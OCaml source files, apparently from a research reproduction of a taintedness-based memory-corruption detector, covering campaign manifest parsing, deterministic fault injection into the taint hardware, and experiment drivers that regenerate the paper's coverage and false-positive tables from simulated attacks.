            let* n = int_of "cursor" v in
            cursor := Some n;
            Ok ()
          | [ "elapsed_us"; v ] ->
            let* n = int_of "elapsed_us" v in
            elapsed_us := n;
            Ok ()
          | [ "jobs"; v ] ->
            let* n = int_of "jobs" v in
            jobs := n;
            Ok ()
          | [ "failed"; v ] ->
            let* n = int_of "failed" v in
            failed := n;
            Ok ()
          | [ "violations"; v ] ->
            let* n = int_of "violations" v in
            violations := n;
            Ok ()
          | [ "instructions"; v ] ->
            let* n = int_of "instructions" v in
            instructions := n;
            Ok ()
          | [ "syscalls"; v ] ->
            let* n = int_of "syscalls" v in
            syscalls := n;
            Ok ()
          | [ "site"; v ] ->
            let* n = int_of "site" v in
            sites := n :: !sites;
            Ok ()
          | [ "detect"; l; v ] ->
            let* n = int_of "detect" v in
            detections := (l, n) :: !detections;
            Ok ()
          | [ "label"; l ] ->
            counters := (l, ref []) :: !counters;
            Ok ()
          | [ "counter"; name; v ] -> (
            let* n = int_of "counter" v in
            match !counters with
            | [] -> Error "manifest: counter row before any label"
            | (_, rows) :: _ ->
              rows := (name, n) :: !rows;
              Ok ())
          | [ "end" ] ->
            finished := true;
            Ok ()
          | _ -> Error (Printf.sprintf "manifest: unrecognized line %S" line)
      in
      let* () = List.fold_left step (Ok ()) rest in
      if not !finished then Error "manifest: missing end sentinel (torn write?)"
      else
        match (!id, !total, !cursor) with
        | Some id, Some total, Some cursor ->
          Ok
            { id;
              total;
              cursor;
              elapsed_us = !elapsed_us;
              dump =
                { Campaign.d_jobs = !jobs;
                  d_failed = !failed;
                  d_violations = !violations;
                  d_instructions = !instructions;
                  d_syscalls = !syscalls;
                  d_detections = List.rev !detections;
                  d_counters =
                    List.rev_map (fun (l, rows) -> (l, List.rev !rows)) !counters;
                  d_sites = List.rev !sites } }
        | None, _, _ -> Error "manifest: missing id"
        | _, None, _ -> Error "manifest: missing total"
        | _, _, None -> Error "manifest: missing cursor"
    end

let load ~path =
  match open_in_bin path with
  | exception Sys_error e -> Error e
  | ic ->
    let n = in_channel_length ic in
    let text = really_input_string ic n in
    close_in ic;
    parse text

(* Resume hygiene for the JSONL result sink: the manifest says jobs
   [0, cursor) are folded, so the sink must hold exactly [cursor]
   lines before the resumed run appends line [cursor].  A run killed
   after flushing the sink but before the manifest rename leaves the
   sink longer — truncate it back; shorter means the sink and the
   manifest disagree (sink deleted or not flushed before checkpoint),
   which resume must refuse rather than silently double-count. *)
let truncate_jsonl ~path ~lines =
  if lines = 0 then begin
    (match Sys.file_exists path with
     | true -> Sys.remove path
     | false -> ());
    Ok ()
  end
  else
    match open_in_bin path with
    | exception Sys_error e -> Error e
    | ic -> (
      (* byte offset just past the [lines]-th newline *)
      let rec scan seen pos =
        if seen = lines then Some pos
        else
          match input_char ic with
          | '\n' -> scan (seen + 1) (pos + 1)
          | _ -> scan seen (pos + 1)
          | exception End_of_file -> None
      in
      match scan 0 0 with
      | None ->
        close_in ic;
        Error
          (Printf.sprintf "result sink %s holds fewer than %d lines; refusing to resume"
             path lines)
      | Some pos ->
        close_in ic;
        (try
           Unix.LargeFile.truncate path (Int64.of_int pos);
           Ok ()
         with Unix.Unix_error (e, _, _) -> Error (Unix.error_message e)))
