open Ptaint_cpu
module Memory = Ptaint_mem.Memory
module Sim = Ptaint_sim.Sim

(* --- fault models ---

   Each constructor is one hardware fault from the paper's threat
   model, aimed at the taintedness architecture itself: data
   corruption (the attacks the detector should catch), taint-bit loss
   (the detector silently disarmed — the false-negative direction),
   and spurious taint (the detector over-armed — the false-positive
   direction). *)

type fault =
  | Flip_data of { addr : int; bit : int }
  | Flip_reg of { slot : int; bit : int }
  | Taint_loss of { addr : int; len : int }
  | Spurious_taint of { addr : int; len : int }
  | Reg_taint_loss of { slot : int }
  | Reg_spurious_taint of { slot : int }
  | Taint_wipe
  | Stuck_clean of { addr : int; len : int }

type injection = { at : int; fault : fault }
type applied = { injection : injection; ok : bool }
type report = { result : Sim.result; applied : applied list }

let debug_checks = ref false

let model_name = function
  | Flip_data _ -> "data-flip"
  | Flip_reg _ -> "reg-flip"
  | Taint_loss _ -> "taint-loss"
  | Spurious_taint _ -> "spurious-taint"
  | Reg_taint_loss _ -> "reg-taint-loss"
  | Reg_spurious_taint _ -> "reg-spurious-taint"
  | Taint_wipe -> "taint-wipe"
  | Stuck_clean _ -> "stuck-clean"

let target_name = function
  | Flip_data { addr; bit } -> Printf.sprintf "mem[0x%08x] bit %d" addr (bit land 7)
  | Flip_reg { slot; bit } -> Printf.sprintf "%s bit %d" (Regfile.slot_name slot) (bit land 31)
  | Taint_loss { addr; len } | Spurious_taint { addr; len } | Stuck_clean { addr; len } ->
    Printf.sprintf "mem[0x%08x..+%d]" addr len
  | Reg_taint_loss { slot } | Reg_spurious_taint { slot } -> Regfile.slot_name slot
  | Taint_wipe -> "all taint state"

let pp_injection ppf i =
  Format.fprintf ppf "%s@@%d into %s" (model_name i.fault) i.at (target_name i.fault)

(* Mutate the machine through the counter-exact injection entry
   points.  [false] means the fault landed in unmapped memory (the
   flip hit nothing) — reported, never raised, so one wild address in
   a random plan does not kill the trial. *)
let apply (m : Machine.t) fault =
  let regs = m.Machine.regs and mem = m.Machine.mem in
  let ok =
    try
      (match fault with
       | Flip_data { addr; bit } -> Memory.inject_flip_data mem addr ~bit
       | Flip_reg { slot; bit } -> Regfile.inject_flip_value regs slot ~bit
       | Taint_loss { addr; len } -> Memory.inject_set_taint_range mem addr len ~tainted:false
       | Spurious_taint { addr; len } ->
         Memory.inject_set_taint_range mem addr len ~tainted:true
       | Reg_taint_loss { slot } -> Regfile.inject_set_taint regs slot ~tainted:false
       | Reg_spurious_taint { slot } -> Regfile.inject_set_taint regs slot ~tainted:true
       | Taint_wipe ->
         for r = 1 to Regfile.slots - 1 do
           Regfile.inject_set_taint regs r ~tainted:false
         done;
         Memory.inject_wipe_taint mem
       | Stuck_clean { addr; len } -> Memory.inject_set_taint_range mem addr len ~tainted:false);
      true
    with Memory.Fault _ -> false
  in
  if ok then Machine.note_injection m ~model:(model_name fault) ~target:(target_name fault);
  if !debug_checks then Memory.check_invariants mem;
  ok

(* --- scheduled plans ---

   Injections are scheduled at guest instruction counts and applied by
   fuel-slicing: run the engine to icount [at], mutate while paused,
   resume.  [Stuck_clean] regions additionally re-clear at every
   subsequent slice boundary — taint written into the region survives
   at most one slice.  The default injection slice is finer than
   {!Sim.default_slice} so stuck regions are honoured with reasonable
   granularity without giving up block execution. *)

let default_slice = 4096

let finish_plan ?deadline ?(slice = default_slice) ~plan s =
  let m = s.Sim.s_machine in
  let plan = List.stable_sort (fun a b -> compare a.at b.at) plan in
  let stuck = ref [] in
  let reassert () =
    List.iter
      (fun (addr, len) ->
        try Memory.inject_set_taint_range m.Machine.mem addr len ~tainted:false
        with Memory.Fault _ -> ())
      !stuck
  in
  let on_slice _ = reassert () in
  let applied = ref [] in
  let note injection ok = applied := { injection; ok } :: !applied in
  let rec go remaining =
    match remaining with
    | [] ->
      (* Tail of the run: plain [finish] when nothing needs slice
         boundaries any more — the zero-injection plan then costs
         exactly one [finish] call. *)
      (match (deadline, !stuck) with
       | None, [] -> Sim.finish s
       | _ -> Sim.finish_sliced ?deadline ~slice ~on_slice s)
    | inj :: rest -> (
      match Sim.run_until ?deadline ~slice ~on_slice s ~icount:inj.at with
      | Sim.Running ->
        let ok = apply m inj.fault in
        (match inj.fault with
         | Stuck_clean { addr; len } when ok -> stuck := (addr, len) :: !stuck
         | _ -> ());
        note inj ok;
        go rest
      | Sim.Finished outcome ->
        (* The guest stopped before this injection point; the rest of
           the plan never fires. *)
        List.iter (fun i -> note i false) remaining;
        Sim.result_of s outcome)
  in
  let result = go plan in
  { result; applied = List.rev !applied }

let run_plan ?config ?deadline ?slice ~plan program =
  finish_plan ?deadline ?slice ~plan (Sim.boot ?config program)

(* --- deterministic RNG ---

   xorshift over the 63-bit native int: plans must be a pure function
   of the seed (identical across domains, runs and machines), so
   neither [Random] (global state) nor anything wall-clock derived is
   usable here. *)

module Rng = struct
  type t = { mutable s : int }

  let create seed =
    let s = seed land max_int in
    { s = (if s = 0 then 0x2545F4914F6CDD1D land max_int else s) }

  let next t =
    let x = t.s in
    let x = x lxor (x lsl 13) land max_int in
    let x = x lxor (x lsr 29) in
    let x = x lxor (x lsl 17) land max_int in
    t.s <- x;
    x

  let int t n = if n <= 0 then 0 else next t mod n
end

(* --- CLI specs --- *)

let parse_int s =
  match int_of_string_opt s with Some n -> Some n | None -> None

let parse spec =
  let fail () =
    Error
      (Printf.sprintf
         "bad injection spec %S (expected MODEL@ICOUNT[:TARGET], e.g. \
          data-flip@1000:0x10000000.3, reg-flip@500:4.7, taint-loss@2000:0x10000000+64, \
          reg-taint-loss@100:29, taint-wipe@1500)"
         spec)
  in
  let ( let* ) o f = match o with Some v -> f v | None -> fail () in
  match String.index_opt spec '@' with
  | None -> fail ()
  | Some i -> (
    let model = String.sub spec 0 i in
    let rest = String.sub spec (i + 1) (String.length spec - i - 1) in
    let at_s, target =
      match String.index_opt rest ':' with
      | None -> (rest, None)
      | Some j ->
        (String.sub rest 0 j, Some (String.sub rest (j + 1) (String.length rest - j - 1)))
    in
    let* at = parse_int at_s in
    let addr_bit t =
      match String.rindex_opt t '.' with
      | None -> None
      | Some j -> (
        match
          ( parse_int (String.sub t 0 j),
            parse_int (String.sub t (j + 1) (String.length t - j - 1)) )
        with
        | Some a, Some b -> Some (a, b)
        | _ -> None)
    in
    let addr_len t =
      match String.index_opt t '+' with
      | None -> None
      | Some j -> (
        match
          ( parse_int (String.sub t 0 j),
            parse_int (String.sub t (j + 1) (String.length t - j - 1)) )
        with
        | Some a, Some l when l > 0 -> Some (a, l)
        | _ -> None)
    in
    match (model, target) with
    | "data-flip", Some t ->
      let* addr, bit = addr_bit t in
      Ok { at; fault = Flip_data { addr; bit } }
    | "reg-flip", Some t ->
      let* slot, bit = addr_bit t in
      Ok { at; fault = Flip_reg { slot; bit } }
    | "taint-loss", Some t ->
      let* addr, len = addr_len t in
      Ok { at; fault = Taint_loss { addr; len } }
    | "spurious-taint", Some t ->
      let* addr, len = addr_len t in
      Ok { at; fault = Spurious_taint { addr; len } }
    | "stuck-clean", Some t ->
      let* addr, len = addr_len t in
      Ok { at; fault = Stuck_clean { addr; len } }
    | "reg-taint-loss", Some t ->
      let* slot = parse_int t in
      Ok { at; fault = Reg_taint_loss { slot } }
    | "reg-spurious-taint", Some t ->
      let* slot = parse_int t in
      Ok { at; fault = Reg_spurious_taint { slot } }
    | "taint-wipe", None -> Ok { at; fault = Taint_wipe }
    | _ -> fail ())
