(** Deterministic, seeded fault injection for the taintedness
    architecture.

    The paper argues the detector from the attacker's side; this
    subsystem argues it from the hardware's side: what happens to
    detection coverage when the mechanism itself takes faults?  Each
    {!fault} is one fault model — data-word bit flips (the classic
    memory-corruption trigger), taint-bit loss (the detector silently
    disarmed: the false-negative direction), spurious taint (the
    detector over-armed: the false-positive direction), and
    stuck-at-clean regions (a persistently broken taint-RAM range).

    Injections are scheduled at guest {e instruction counts} and
    applied by fuel-slicing: {!finish_plan} drives the simulation to
    each scheduled icount with {!Ptaint_sim.Sim.run_until}, mutates
    the paused machine through the counter-exact injection entry
    points ({!Ptaint_cpu.Regfile}, {!Ptaint_mem.Memory}), and
    resumes.  Everything is deterministic: a plan is data, the
    schedule is in guest instructions (never wall clock), and {!Rng}
    is a pure seeded generator — the same seed yields the same trial
    on any machine at any [-j]. *)

type fault =
  | Flip_data of { addr : int; bit : int }
      (** flip bit [bit land 7] of the data byte at [addr]; taint
          plane untouched *)
  | Flip_reg of { slot : int; bit : int }
      (** flip bit [bit land 31] of a register slot's value *)
  | Taint_loss of { addr : int; len : int }
      (** clear the taint bit of every byte in the range *)
  | Spurious_taint of { addr : int; len : int }
      (** set the taint bit of every byte in the range *)
  | Reg_taint_loss of { slot : int }  (** untaint one register slot *)
  | Reg_spurious_taint of { slot : int }  (** taint one register slot *)
  | Taint_wipe
      (** clear all taint state, registers and memory — total loss *)
  | Stuck_clean of { addr : int; len : int }
      (** like [Taint_loss], but re-cleared at every subsequent slice
          boundary: the region's taint RAM is stuck at clean *)

type injection = { at : int; fault : fault }
(** Apply [fault] when the guest has executed [at] instructions. *)

type applied = { injection : injection; ok : bool }
(** [ok = false]: the fault hit unmapped memory, or the guest stopped
    before [at] — the injection landed on nothing. *)

type report = { result : Ptaint_sim.Sim.result; applied : applied list }
(** [applied] is in plan order.  Detection latency of an alerting run
    is [result.instructions - at] of the triggering injection: the
    engine stops on the alerting instruction, so [instructions] is the
    alert point. *)

val debug_checks : bool ref
(** When set, {!apply} audits {!Ptaint_mem.Memory.check_invariants}
    after every injection — on in the fi tests, off in campaigns. *)

val model_name : fault -> string
(** Stable model slug: ["data-flip"], ["reg-flip"], ["taint-loss"],
    ["spurious-taint"], ["reg-taint-loss"], ["reg-spurious-taint"],
    ["taint-wipe"], ["stuck-clean"]. *)

val target_name : fault -> string
val pp_injection : Format.formatter -> injection -> unit

val apply : Ptaint_cpu.Machine.t -> fault -> bool
(** Mutate the (paused) machine; returns whether the fault landed.
    Emits a [Fault_injected] obs event when it did.  Live taint
    counters stay exact, so the clean-taint fast path remains sound
    after any injection. *)

val default_slice : int
(** 4096 — finer than {!Ptaint_sim.Sim.default_slice} so
    [Stuck_clean] re-clears with useful granularity. *)

val finish_plan :
  ?deadline:float -> ?slice:int -> plan:injection list ->
  Ptaint_sim.Sim.session -> report
(** Run the session to completion, applying [plan] (sorted by [at])
    on the way.  [deadline] arms the cooperative watchdog
    ({!Ptaint_sim.Sim.Timeout}).  A zero-injection plan with no
    deadline degenerates to exactly one {!Ptaint_sim.Sim.finish}
    call. *)

val run_plan :
  ?config:Ptaint_sim.Sim.config -> ?deadline:float -> ?slice:int ->
  plan:injection list -> Ptaint_asm.Program.t -> report
(** [finish_plan] over a fresh boot of [program]. *)

val parse : string -> (injection, string) result
(** Parse a command-line injection spec, [MODEL@ICOUNT[:TARGET]]:
    [data-flip@N:ADDR.BIT], [reg-flip@N:SLOT.BIT],
    [taint-loss@N:ADDR+LEN], [spurious-taint@N:ADDR+LEN],
    [stuck-clean@N:ADDR+LEN], [reg-taint-loss@N:SLOT],
    [reg-spurious-taint@N:SLOT], [taint-wipe@N].  Addresses accept
    any [int_of_string] literal ([0x...] included). *)

(** Deterministic 63-bit xorshift generator — plans must be pure
    functions of the seed, so the global [Random] state (and anything
    wall-clock derived) is off limits in campaign code. *)
module Rng : sig
  type t

  val create : int -> t
  val next : t -> int  (** uniform non-negative int *)

  val int : t -> int -> int
  (** [int t n] in [[0, n)]; 0 when [n <= 0]. *)
end
