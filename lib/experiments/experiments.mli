(** Reproduction of every table and figure in the paper's evaluation.

    Each function regenerates one artifact as plain text; {!all} runs
    the full evaluation.  EXPERIMENTS.md records the outputs next to
    the paper's numbers. *)

val fig1 : unit -> string
(** Figure 1: CERT advisory breakdown, 2000–2003. *)

val fig2 : unit -> string
(** Figure 2: anatomy of the three synthetic attacks (layouts and
    what the overflow taints), demonstrated live. *)

val fig3 : unit -> string
(** Figure 3: the architecture — detector placement and taint-tracking
    hardware activity measured by the pipeline model. *)

val tab1 : unit -> string
(** Table 1: each ALU taintedness-propagation rule executed on the
    machine, with register taint masks before and after. *)

val synthetic : unit -> string
(** Section 5.1.1: detection of exp1/exp2/exp3 with the alert lines,
    plus the full incident report for exp1 — backtrace, tainted
    registers, last-instructions window and taint provenance. *)

val tab2 : unit -> string
(** Table 2: the WU-FTPD attack/detection transcript. *)

val real_world : unit -> string
(** Section 5.1.2: NULL HTTPD, GHTTPD and traceroute attacks. *)

val coverage : ?domains:int -> ?trace:Ptaint_obs.Trace.t -> unit -> string
(** Section 5.1: the security-coverage matrix — every attack under no
    protection, control-data-only protection, and pointer
    taintedness; plus benign-input runs.  The whole matrix is
    submitted as one [Campaign] batch executed on [domains] workers
    (default: all cores); the rendered table is identical whatever
    [domains] is, modulo the bracketed wall time.  The report includes
    the per-policy campaign metrics (deterministic counters only).
    [trace] receives one Job span per campaign job, for the Chrome
    exporter. *)

val tab3 : ?domains:int -> ?trace:Ptaint_obs.Trace.t -> unit -> string
(** Table 3: false-positive evaluation on the six SPEC-like
    workloads, run as a campaign batch. *)

val tab4 : ?domains:int -> ?trace:Ptaint_obs.Trace.t -> unit -> string
(** Table 4: the three false-negative scenarios, plus the contrast
    cases showing where detection resumes — five simulations batched
    as one campaign. *)

val overhead : unit -> string
(** Section 5.4: architectural overhead — pipeline timing with the
    taint hardware accounted, storage overhead, and the
    kernel-tainting software overhead (input bytes / instructions). *)

val ablation : unit -> string
(** Design-choice ablation: the compare-untaint rule (hardware) and
    the register-residency write-back (compiler) toggled off. *)

val extension : unit -> string
(** Section 5.3's proposed future work, implemented: programmer
    annotations ([guard]/[unguard]) that flag tainted writes into
    critical data, turning the Table 4(B) false negative into a
    detection. *)

val resilience :
  ?domains:int -> ?trace:Ptaint_obs.Trace.t -> ?seed:int -> unit -> string
(** Fault injection into the detection mechanism itself
    ({!Ptaint_fi.Fi}): the full attack catalogue × fault models
    (data flips, register/memory taint loss, total taint wipe,
    stuck-at-clean taint RAM, spurious taint) × policies, each trial
    classified against its fault-free baseline — detection rate,
    false-negative and false-positive deltas, detection latency in
    instructions, and the silent-corruption rate.  Ends with a
    hostile-job campaign (spinning guest, crashing thunk, malformed
    programs, unknown syscall) demonstrating the hardened runtime:
    watchdog timeouts, retries and typed failures, with every job
    accounted for.  Deterministic for a given [seed] (default 42):
    byte-identical output at any [domains]. *)

val generative : ?domains:int -> ?seed:int -> ?cases:int -> ?variants:int -> unit -> string
(** Generative campaign: a seeded grammar-based sweep
    ({!Ptaint_gen.Gen}) of [cases] synthesized (program, payload)
    pairs, each run under every policy, streamed through the
    arena-recycling campaign engine.  Reports coverage-style fitness:
    per-policy detections, distinct detection sites, and the policy
    disagreement rate (cases where the policies reach different
    verdicts).  Byte-identical at any [domains] for a given [seed]. *)

val all : ?domains:int -> ?trace:Ptaint_obs.Trace.t -> unit -> string
