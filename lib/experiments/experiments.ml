open Ptaint_attacks
module Campaign = Ptaint_campaign.Campaign
module Job = Ptaint_campaign.Job

let buf_add = Buffer.add_string

(* ------------------------------------------------------------------ *)
(* Figure 1                                                            *)

let fig1 () =
  let buf = Buffer.create 1024 in
  buf_add buf (Ptaint_report.Report.section "Figure 1: CERT advisories 2000-2003 by vulnerability class");
  let rows =
    List.map
      (fun (c, n) -> (Ptaint_cert.Cert.category_name c, n))
      (Ptaint_cert.Cert.breakdown ())
  in
  buf_add buf (Ptaint_report.Report.bar_chart rows);
  let mem, total, share = Ptaint_cert.Cert.memory_corruption_share () in
  buf_add buf
    (Printf.sprintf
       "\nMemory-corruption classes: %d of %d advisories = %.1f%% (paper: 67%%).\n\
        Per-category counts are a documented reconstruction; see DESIGN.md.\n"
       mem total share);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Table 1                                                             *)

let tab1 () =
  let open Ptaint_isa in
  let open Ptaint_taint in
  let open Ptaint_cpu in
  let buf = Buffer.create 2048 in
  buf_add buf (Ptaint_report.Report.section "Table 1: taintedness propagation by ALU instructions");
  let demo name insn setup describe =
    let mem = Ptaint_mem.Memory.create () in
    let machine =
      Machine.create
        ~code:{ Machine.base = Ptaint_mem.Layout.text_base; insns = [| insn |] }
        ~mem ~entry:Ptaint_mem.Layout.text_base ()
    in
    setup machine;
    let before = describe machine in
    (match Machine.step machine with
     | Machine.Normal -> ()
     | _ -> failwith "tab1 demo step failed");
    let after = describe machine in
    [ name; Insn.to_string insn; before; after ]
  in
  let reg_mask m r = Format.asprintf "%a" (Mask.pp ?bytes:None) (Tword.mask (Regfile.get m.Machine.regs r)) in
  let set m r w = Regfile.set m.Machine.regs r w in
  let rows =
    [ demo "generic ALU: OR of operand taint" (Insn.R (ADD, 1, 2, 3))
        (fun m ->
          set m 2 (Tword.make ~v:5 ~m:0b0001);
          set m 3 (Tword.make ~v:7 ~m:0b0100))
        (fun m -> Printf.sprintf "r2=%s r3=%s r1=%s" (reg_mask m 2) (reg_mask m 3) (reg_mask m 1));
      demo "shift: taint moves with bytes" (Insn.Shift (SLL, 1, 2, 8))
        (fun m -> set m 2 (Tword.make ~v:0xAB ~m:0b0001))
        (fun m -> Printf.sprintf "r2=%s r1=%s" (reg_mask m 2) (reg_mask m 1));
      demo "AND with untainted zero untaints" (Insn.R (AND, 1, 2, 3))
        (fun m ->
          set m 2 (Tword.make ~v:0x11223344 ~m:0b1111);
          set m 3 (Tword.untainted 0x0000FFFF))
        (fun m -> Printf.sprintf "r2=%s r3=%s r1=%s" (reg_mask m 2) (reg_mask m 3) (reg_mask m 1));
      demo "XOR R1,R2,R2 zeroing idiom" (Insn.R (XOR, 1, 2, 2))
        (fun m -> set m 2 (Tword.tainted 0xABCD))
        (fun m -> Printf.sprintf "r2=%s r1=%s" (reg_mask m 2) (reg_mask m 1));
      demo "compare untaints its operands" (Insn.R (SLT, 1, 2, 3))
        (fun m ->
          set m 2 (Tword.tainted 3);
          set m 3 (Tword.untainted 10))
        (fun m -> Printf.sprintf "r2=%s r3=%s r1=%s" (reg_mask m 2) (reg_mask m 3) (reg_mask m 1)) ]
  in
  buf_add buf
    (Ptaint_report.Report.table
       ~headers:[ "rule"; "instruction"; "taint before"; "taint after" ]
       rows);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Figures 2/3, synthetic detections                                   *)

let describe_run scenario policy =
  let verdict, result = Scenario.run ~policy scenario in
  Format.asprintf "  under %s: %a\n"
    (match policy.Ptaint_cpu.Policy.mode with
     | Ptaint_cpu.Policy.No_protection -> "no protection"
     | Ptaint_cpu.Policy.Control_data_only -> "control-data-only protection"
     | Ptaint_cpu.Policy.Pointer_taintedness -> "pointer-taintedness detection")
    Scenario.pp_verdict verdict
  ^
  match result.Ptaint_sim.Sim.outcome with
  | Ptaint_sim.Sim.Exited _ when result.Ptaint_sim.Sim.stdout <> "" ->
    Printf.sprintf "    guest output: %s\n" (String.escaped result.Ptaint_sim.Sim.stdout)
  | _ -> ""

let fig2 () =
  let buf = Buffer.create 4096 in
  buf_add buf
    (Ptaint_report.Report.section
       "Figure 2: stack smashing, heap corruption and format string attacks");
  List.iter
    (fun (s : Scenario.t) ->
      buf_add buf (Printf.sprintf "%s\n  %s\n" s.Scenario.name s.Scenario.description);
      buf_add buf (describe_run s Ptaint_cpu.Policy.unprotected);
      buf_add buf (describe_run s Ptaint_cpu.Policy.default);
      buf_add buf "\n")
    [ Catalog.exp1_stack_smash; Catalog.exp2_heap; Catalog.exp3_format ];
  Buffer.contents buf

let fig3 () =
  let buf = Buffer.create 2048 in
  buf_add buf (Ptaint_report.Report.section "Figure 3: detector placement and taint hardware activity");
  buf_add buf
    "Detectors: indirect jumps (JR/JALR) are checked after ID/EX; load/store\n\
     effective addresses after EX/MEM; a flagged instruction raises the security\n\
     exception at retirement.  Running the GZIP workload through the pipeline\n\
     timing model counts the taint hardware's work:\n\n";
  let w = Ptaint_workloads.Workload.gzip in
  let p = Ptaint_workloads.Workload.program w in
  let config =
    Ptaint_sim.Sim.config ~stdin:(w.Ptaint_workloads.Workload.input ()) ~timing:true ()
  in
  let r = Ptaint_sim.Sim.run ~config p in
  (match r.Ptaint_sim.Sim.pipeline with
   | Some st ->
     buf_add buf
       (Ptaint_report.Report.kv
          [ ("instructions", Ptaint_report.Report.commas st.Ptaint_cpu.Pipeline.instructions);
            ("cycles", Ptaint_report.Report.commas st.Ptaint_cpu.Pipeline.cycles);
            ( "CPI",
              Printf.sprintf "%.2f"
                (float_of_int st.Ptaint_cpu.Pipeline.cycles
                 /. float_of_int (max 1 st.Ptaint_cpu.Pipeline.instructions)) );
            ("taint OR-gate operations", Ptaint_report.Report.commas st.Ptaint_cpu.Pipeline.taint_gate_ops);
            ("detector checks (1-bit ORs)", Ptaint_report.Report.commas st.Ptaint_cpu.Pipeline.detector_checks);
            ("load-use stalls", Ptaint_report.Report.commas st.Ptaint_cpu.Pipeline.load_use_stalls);
            ("control flushes", Ptaint_report.Report.commas st.Ptaint_cpu.Pipeline.control_flushes) ])
   | None -> ());
  let mem_stats = Ptaint_mem.Memory.stats r.Ptaint_sim.Sim.image.Ptaint_asm.Loader.mem in
  buf_add buf "\nMemory-system taint activity for the same run:\n\n";
  buf_add buf
    (Ptaint_report.Report.kv
       [ ("loads", Ptaint_report.Report.commas mem_stats.Ptaint_mem.Memory.loads);
         ("stores", Ptaint_report.Report.commas mem_stats.Ptaint_mem.Memory.stores);
         ( "loads returning tainted bytes",
           Ptaint_report.Report.commas mem_stats.Ptaint_mem.Memory.tainted_loads );
         ( "stores writing tainted bytes",
           Ptaint_report.Report.commas mem_stats.Ptaint_mem.Memory.tainted_stores ) ]);
  buf_add buf
    "\nNone of the taint operations sit on the pipeline's critical path: every one\n\
     is an OR alongside an existing ALU/loadstore operation (section 5.4).\n";
  Buffer.contents buf

let synthetic () =
  let buf = Buffer.create 4096 in
  buf_add buf (Ptaint_report.Report.section "Section 5.1.1: synthetic vulnerable programs");
  List.iter
    (fun ((s : Scenario.t), note) ->
      let verdict, _ = Scenario.run s in
      buf_add buf (Printf.sprintf "%s\n  %s\n  %s\n\n" s.Scenario.name note
                     (Format.asprintf "%a" Scenario.pp_verdict verdict)))
    [ (Catalog.exp1_stack_smash,
       "paper: alert at JR $31 with the return address tainted as 0x61616161");
      (Catalog.exp2_heap,
       "paper: alert inside free() dereferencing B->fd = 0x61616161 (ours fires at the\n\
       \  unlink store through FD, base register 0x61616169 = FD+8)");
      (Catalog.exp3_format,
       "paper: alert at SW $21,0($3) in vfprintf with $3 = 0x64636261") ];
  (* The full incident report for exp1 — what the operator actually
     sees on an alert: backtrace, tainted registers, the instruction
     window and the taint-provenance narrative back to the syscall
     that delivered the bytes. *)
  let _, result = Scenario.run Catalog.exp1_stack_smash in
  buf_add buf "incident report for exp1:\n\n";
  buf_add buf (Ptaint_sim.Diagnostics.report result);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Table 2: WU-FTPD transcript                                         *)

let tab2 () =
  let buf = Buffer.create 4096 in
  buf_add buf (Ptaint_report.Report.section "Table 2: attacking WU-FTPD on the proposed architecture");
  let scenario = Catalog.wuftpd_format_uid in
  let program = scenario.Scenario.build () in
  let uid_addr = Ptaint_asm.Program.symbol_exn program Ptaint_apps.Wuftpd.uid_symbol in
  let verdict, result = Scenario.run scenario in
  let client_lines =
    [ "user user1"; "pass xxxxxxx (the correct password of user1)";
      Printf.sprintf "site exec <format payload targeting the uid word at 0x%08x>" uid_addr ]
  in
  let server_replies = result.Ptaint_sim.Sim.net_sent in
  buf_add buf "FTP Server  | ";
  (match server_replies with
   | banner :: _ -> buf_add buf (String.trim banner)
   | [] -> ());
  buf_add buf "\n";
  List.iteri
    (fun i line ->
      buf_add buf (Printf.sprintf "FTP Client  | %s\n" line);
      match List.nth_opt server_replies (i + 1) with
      | Some reply when i < 2 -> buf_add buf (Printf.sprintf "FTP Server  | %s\n" (String.trim reply))
      | _ -> ())
    client_lines;
  (match verdict with
   | Scenario.Detected a ->
     buf_add buf (Format.asprintf "Alert       | %a\n" Ptaint_cpu.Machine.pp_alert a);
     buf_add buf
       (Printf.sprintf
          "\nThe store's base register holds 0x%08x — exactly the uid word the attacker\n\
           targeted (the paper's $3=0x1002bc20).  The FTP server is stopped before the\n\
           uid word is written.\n"
          (Ptaint_taint.Tword.value a.Ptaint_cpu.Machine.reg_value))
   | v -> buf_add buf (Format.asprintf "UNEXPECTED: %a\n" Scenario.pp_verdict v));
  let verdict_np, result_np = Scenario.run ~policy:Ptaint_cpu.Policy.unprotected scenario in
  buf_add buf
    (Format.asprintf
       "\nWithout protection the same session ends with: %a\n/etc/passwd after the attack: %s\n"
       Scenario.pp_verdict verdict_np
       (match
          Ptaint_os.Fs.read (Ptaint_os.Kernel.fs result_np.Ptaint_sim.Sim.kernel)
            ~path:Ptaint_apps.Wuftpd.passwd_path
        with
        | Some s -> String.escaped s
        | None -> "<missing>"));
  Buffer.contents buf

let real_world () =
  let buf = Buffer.create 4096 in
  buf_add buf (Ptaint_report.Report.section "Section 5.1.2: real-world network applications");
  List.iter
    (fun (s : Scenario.t) ->
      buf_add buf (Printf.sprintf "%s (%s attack)\n  %s\n" s.Scenario.name
                     (Scenario.kind_name s.Scenario.kind) s.Scenario.description);
      buf_add buf (describe_run s Ptaint_cpu.Policy.default);
      buf_add buf (describe_run s Ptaint_cpu.Policy.control_only);
      buf_add buf (describe_run s Ptaint_cpu.Policy.unprotected);
      buf_add buf "\n")
    Catalog.real_world;
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Coverage matrix                                                     *)

let coverage ?domains ?trace () =
  let buf = Buffer.create 4096 in
  buf_add buf (Ptaint_report.Report.section "Section 5.1: security coverage matrix");
  let headers =
    "attack" :: "class" :: List.map fst Scenario.coverage_policies @ [ "benign run (PT)" ]
  in
  (* the whole matrix — scenario × policy × case — as one campaign *)
  let per_scenario =
    List.map
      (fun (s : Scenario.t) ->
        let program = s.Scenario.build () in
        let atk = Scenario.attack s in
        let jobs =
          List.map
            (fun (pname, policy) ->
              Job.make
                ~tag:(Printf.sprintf "%s / %s / %s" s.Scenario.name atk.Scenario.case_name pname)
                ~policy_label:pname
                ~config:{ (atk.Scenario.config program) with Ptaint_sim.Sim.policy }
                (Job.Image program))
            Scenario.coverage_policies
          @
          match Scenario.benign s with
          | None -> []
          | Some c ->
            [ Job.make
                ~tag:(Printf.sprintf "%s / %s" s.Scenario.name c.Scenario.case_name)
                ~policy_label:"benign (PT)"
                ~expect:(fun r ->
                  match Scenario.verdict_of s r with
                  | Scenario.Survived -> None
                  | v -> Some ("false positive: " ^ Scenario.verdict_name v))
